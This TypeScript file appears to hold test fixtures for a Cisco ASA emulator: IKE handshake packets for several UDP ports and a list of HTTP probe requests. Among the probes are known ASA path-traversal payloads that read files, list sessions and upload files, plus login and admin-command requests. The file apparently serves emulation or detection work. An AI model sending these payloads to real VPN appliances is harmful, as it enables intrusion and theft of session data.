import { aggressive, main, saInit } from '../../emulators/cisco-asa/ike-messages.ts'
import { httpRequest } from '../http-request.ts'

const ike = [main(), aggressive('vpn', Buffer.alloc(128, 3), Buffer.alloc(20, 4)), saInit(), saInit({ pad: 100 })]

/** The first messages of IKE; port 4500 has a mark of four zeros before each. */
export const byPort = { 'udp 500': ike, 'udp 5000': ike, 'udp 4500': ike.map((message) => Buffer.concat([Buffer.alloc(4), message])) }

/** The holes and the logins over HTTP. */
export default [
  httpRequest('GET', '/'),
  httpRequest('GET', '/+CSCOE+/logon.html?fcadbadd=1'),
  httpRequest('POST', '/+webvpn+/index.html', 'username=u&password=p&group_list=x', {
    'Content-Type': 'application/x-www-form-urlencoded',
  }),
  httpRequest(
    'POST',
    '/',
    '<config-auth client="vpn" type="init"><version who="vpn">4.1</version><device-id unique-id="A">w</device-id></config-auth>',
    {
      'X-Aggregate-Auth': '1',
    },
  ),
  httpRequest('POST', '/', '<config-auth type="auth-reply"><auth><username>a</username><password>b</password></auth></config-auth>'),
  httpRequest('POST', '/', '<config-auth><host-scan-reply>AAAA</host-scan-reply></config-auth>'),
  httpRequest('GET', '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&lang=../'),
  httpRequest('GET', '/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions'),
  httpRequest('POST', '/+CSCOU+//../+CSCOE+/files/file_action.html?mode=upload', 'x', {
    'Content-Type': 'multipart/form-data; boundary=ee',
  }),
  httpRequest('GET', '/admin/exec/show+version/show+run', '', { Authorization: 'Basic YTpi' }),
]
